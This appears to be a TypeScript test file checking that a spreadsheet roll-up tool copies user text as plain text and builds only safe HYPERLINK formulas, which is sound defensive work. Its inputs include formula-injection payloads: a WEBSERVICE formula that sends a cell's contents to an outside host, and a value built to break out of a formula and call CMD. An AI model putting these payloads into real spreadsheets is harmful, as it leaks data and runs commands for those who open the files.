import { validateAndRollUp } from "../../src/job/job";
import { cellOf, hosts, OPTIONS, reopened, sheetOf, trackerWorkbook } from "../support/excelHost";

const start = hosts();

/** Each as the progress of a Red Key Activity, so that it stands on Exceptions. */
const TEXTS = [
  "=1+1",
  '=HYPERLINK("https://example.org","click")',
  '=WEBSERVICE("https://example.org/?"&A1)',
  "+44 20 7946 0000",
  "- Work has begun",
  "-1",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
  "1/2",
  "1-3",
  "00123",
  "TRUE",
  "1E5",
  "12%",
  "£5",
  "2024-05-01",
  "'til June",
  "''quoted''",
  "#REF!",
  " leading and trailing ",
  "line one\nline two",
  '"quotes" & <tags>',
  "Ünïcode 😀 עברית",
  "[z]",
];

describe("Text is text", () => {
  test.each(TEXTS)("%j lands on a summary sheet as the same text, and stays so in the file", async (text) => {
    const workbook = trackerWorkbook([["KA.01.01 Build homes", "Red", text, "Carry on", "Housing"]]);
    start(workbook);
    await validateAndRollUp(OPTIONS);
    for (const each of [workbook, reopened(workbook)]) {
      const cell = cellOf(sheetOf(each, "Exceptions"), "G4");
      expect({ value: cell?.value, formula: cell?.formula }).toEqual({ value: text, formula: undefined });
    }
  });

  test.each(['=1+1","x")&CMD("', 'KA "1"', "KA'1", "=HYPERLINK(1)"])(
    "a reference %j is shown and nothing more",
    async (written) => {
      const workbook = trackerWorkbook([
        ["KA.01.01 Build homes", "Red", "Begun", "Carry on", "Housing"],
        [`KA.01.02 ${written}`, "Red", "Begun", "Carry on", written],
      ]);
      start(workbook);
      await validateAndRollUp(OPTIONS);
      const formulas = workbook.sheets.flatMap(({ rows }) =>
        [...rows.values()].flatMap((cells) => [...cells.values()].flatMap(({ formula }) => formula ?? [])),
      );
      for (const formula of formulas)
        expect(formula).toMatch(/^=HYPERLINK\("#'[^"]*'![A-Z]+\d+","[^"]*"(?:&"[^"]*")*\)$/);
    },
  );

  test("a sheet's name with quotation marks and apostrophes is linked to, not run", async () => {
    const name = `Q1 2024-25 "O'B"`;
    const workbook = trackerWorkbook([["KA.01.01 Build homes", "Red", "Begun", "Carry on", "Housing"]], name);
    start(workbook);
    await validateAndRollUp(OPTIONS);
    const cell = cellOf(sheetOf(workbook, "Exceptions"), "A4");
    expect(cell?.formula).toBe(`=HYPERLINK("#'Q1 2024-25 ""O''B""'!A5","KA.01.01")`);
    expect(cell?.value).toBe("KA.01.01");
  });

  test("a text too tall for a row continues on labelled rows, and none of it is lost", async () => {
    const progress = Array.from({ length: 900 }, (_, index) => `word${index}`).join(" ");
    const workbook = trackerWorkbook([["KA.01.01 Build homes", "Red", progress, "Carry on", "Housing"]]);
    start(workbook);
    await validateAndRollUp(OPTIONS);
    const sheet = sheetOf(workbook, "Exceptions");
    const parts = [...sheet.rows.keys()].filter((row) => row > 2).map((row) => sheet.rows.get(row));
    expect(parts.length).toBeGreaterThan(2);
    expect(parts.map((cells) => cells?.get(6)?.value).join("")).toBe(progress);
    expect(parts.slice(1).map((cells) => cells?.get(0)?.value)).toEqual(
      parts.slice(1).map(() => "KA.01.01 (continued)"),
    );
    for (const height of sheet.rowHeights.values()) expect(height).toBeLessThanOrEqual(409);
  });

  test("the longest text that a cell can hold is not cut", async () => {
    const progress = "wörd ".repeat(6553) + "ab";
    expect(progress).toHaveLength(32_767);
    const workbook = trackerWorkbook([["KA.01.01 Build homes", "Red", progress, "Carry on", "Housing"]]);
    start(workbook);
    await validateAndRollUp(OPTIONS);
    const { rows } = sheetOf(workbook, "Exceptions");
    expect(
      [...rows.entries()]
        .filter(([row]) => row > 2)
        .map(([, cells]) => cells.get(6)?.value)
        .join(""),
    ).toBe(progress);
  });
});
